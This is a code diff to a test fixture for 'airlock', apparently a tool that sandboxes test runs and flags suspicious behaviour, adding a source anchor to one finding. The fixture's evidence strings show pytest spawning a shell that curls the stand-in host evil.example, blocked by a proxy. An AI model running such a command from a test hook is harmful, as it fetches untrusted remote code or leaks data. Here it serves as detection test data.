@@ -6,6 +6,7 @@ from airlock.pipeline.fingerprint import assign
 from airlock.pipeline.gate import evaluate
 from airlock.pipeline.merge import dedup
 from airlock.pipeline.models import (
+    Anchor,
     Finding,
     GateResult,
     Report,
@@ -59,7 +60,8 @@ def findings() -> list[Finding]:
                 Severity.MEDIUM, "", evidence=(
                     "command[0]: python -m pytest",
                     "process: python -m pytest -> sh -c curl evil.example -> curl https://evil.example/x",
-                    "proxy: CONNECT evil.example:443 -> refused (403)", "dns query type=A name='evil.example'")),
+                    "proxy: CONNECT evil.example:443 -> refused (403)", "dns query type=A name='evil.example'"),
+                anchor=Anchor("airlock.toml", 7, "declared here")),
         Finding("agent", "airlock", "agent.policy-change",
                 "this change edits the airlock policy (airlock.toml); the gate keeps using the base revision's "
                 "version", Severity.HIGH, "airlock.toml", 2, 2, snippet="edits airlock.toml"),
